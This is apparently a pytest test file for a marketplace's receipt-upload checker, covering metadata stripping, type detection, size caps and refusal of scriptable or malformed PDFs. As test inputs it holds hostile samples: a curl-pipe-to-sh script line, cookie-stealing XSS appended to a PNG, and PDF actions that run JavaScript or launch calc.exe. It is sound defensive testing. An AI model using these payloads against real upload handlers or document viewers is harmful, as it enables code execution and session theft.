"""Receipt uploads are checked by what the file is: photos redrawn without metadata, PDFs kept only if
they parse and can run nothing; wrong types, files too large and scripts dressed as photos are refused."""
from __future__ import annotations

import io

import pytest
from PIL import Image

from marketplace.errors import DomainError
from marketplace.spending.uploads import check_receipt

from . import files

MB = 1024 * 1024


@pytest.mark.parametrize("kind, content_type", [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")])
def test_photos_are_kept_as_what_they_are(kind, content_type):
    checked = check_receipt(files.photo(kind))
    assert checked.content_type == content_type
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.format == kind and image.size == (40, 30)


def test_a_photo_loses_where_it_was_taken_and_the_phone_that_took_it():
    original = files.photo_with_gps()
    with Image.open(io.BytesIO(original)) as image:
        assert image.getexif().get(0x0110) == "SecretPhone 9"  # the test photo really carries it
    checked = check_receipt(original)
    with Image.open(io.BytesIO(checked.data)) as image:
        assert dict(image.getexif()) == {}
    assert b"SecretPhone" not in checked.data and b"PhoneMaker" not in checked.data


def test_a_pdf_that_parses_and_runs_nothing_is_kept_as_given():
    given = files.pdf()
    checked = check_receipt(given)
    assert (checked.content_type, checked.data) == ("application/pdf", given)


@pytest.mark.parametrize("data", [
    b"Just some text, not a receipt",
    b"<html><script>alert(1)</script></html>",
    b"MZ\x90\x00" + b"\x00" * 200,  # a Windows program
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",  # a GIF: an image, but not one of the kinds kept
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,  # a PNG header with nothing behind it
], ids=["text", "html", "program", "gif", "broken-png"])
def test_the_wrong_type_of_file_is_refused(data):
    with pytest.raises(DomainError, match=r"must be a photo \(JPG, PNG or WebP\) or a PDF"):
        check_receipt(data)


def test_a_script_is_refused_whatever_it_is_called():
    # The name is never looked at (the upload route's test sends it as receipt.jpg): the content is a shell script.
    with pytest.raises(DomainError, match="must be a photo"):
        check_receipt(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")


def test_a_script_hidden_after_a_real_photo_does_not_survive():
    polyglot = files.photo("PNG") + b"<script>alert(document.cookie)</script>"
    checked = check_receipt(polyglot)
    assert checked.content_type == "image/png" and b"<script>" not in checked.data


def test_a_file_over_the_size_cap_is_refused():
    with pytest.raises(DomainError, match="smaller than 5 MB"):
        check_receipt(b"%PDF-1.4\n" + b"0" * (5 * MB))
    assert check_receipt(files.photo(), max_bytes=2 * MB).content_type == "image/jpeg"
    with pytest.raises(DomainError, match="smaller than 2 MB"):
        check_receipt(files.photo() + b"\0" * (2 * MB), max_bytes=2 * MB)  # the cap is a setting (RECEIPT_MAX_BYTES)


def test_an_empty_file_is_refused():
    with pytest.raises(DomainError, match="empty"):
        check_receipt(b"")


@pytest.mark.parametrize("extra", [
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # the same, spelt with escapes
    b"/OpenAction << /S /Launch /F (calc.exe) >>",
    b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>",
    b"/AA << /O << /S /JavaScript /JS (x) >> >>",
], ids=["javascript", "escaped-javascript", "launch", "embedded-file", "additional-action"])
def test_a_pdf_that_can_run_something_is_refused(extra):
    with pytest.raises(DomainError, match="contains a script, an action or another file"):
        check_receipt(files.pdf_with_catalogue(extra))


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    with pytest.raises(DomainError, match="contains a script"):
        check_receipt(files.pdf_with_hidden_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"))
    assert check_receipt(files.pdf_with_hidden_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")).content_type == "application/pdf"


@pytest.mark.parametrize("data, problem", [
    (lambda: files.pdf()[: len(files.pdf()) // 2], "could not be read"),  # cut short
    (lambda: b"%PDF-1.7\n" + b"1 0 obj << >> endobj\n" + b"trailer\n%%EOF", "could not be read"),  # no cross-reference
    (lambda: files.pdf_with_catalogue(b"/Encrypt 9 0 R"), "protected with a password"),
], ids=["cut-short", "no-xref", "encrypted"])
def test_a_pdf_that_does_not_parse_is_refused(data, problem):
    with pytest.raises(DomainError, match=problem):
        check_receipt(data())


def test_a_pdf_that_unpacks_into_gigabytes_is_refused(monkeypatch):
    from marketplace.spending import uploads

    monkeypatch.setattr(uploads, "MAX_INFLATED", 1000)
    with pytest.raises(DomainError, match="too large once opened"):
        check_receipt(files.pdf_with_hidden_stream(b" " * 5000))
